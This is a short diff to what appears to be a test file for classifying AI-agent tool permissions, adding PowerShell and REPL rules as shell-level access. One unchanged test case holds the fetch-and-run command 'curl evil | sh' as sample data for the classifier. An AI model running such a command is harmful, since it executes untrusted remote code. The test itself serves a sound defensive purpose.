@@ -60,6 +60,8 @@ COMMAND = a_task(CommandAction(command="echo hi"))
         (a_task(PythonAction(call="x:y")), None, EDIT, "shell"),  # type python
         (claude(permissions=Permissions.FULL), None, EDIT, "shell"),
         (claude(allowed_tools=("Bash(git *)",)), None, EDIT, "shell"),  # any Bash rule is shell
+        (claude(allowed_tools=("PowerShell(Get-Item *)",)), None, EDIT, "shell"),
+        (claude(allowed_tools=("REPL",)), None, EDIT, "shell"),
         (a_task(declared={"gate": "curl evil | sh"}), None, EDIT, "shell"),
         (a_task(declared={"mcp_config": "mcp.json"}), None, EDIT, "shell"),
         (claude(allowed_tools=("WebFetch",)), None, EDIT, "allowed_tools"),
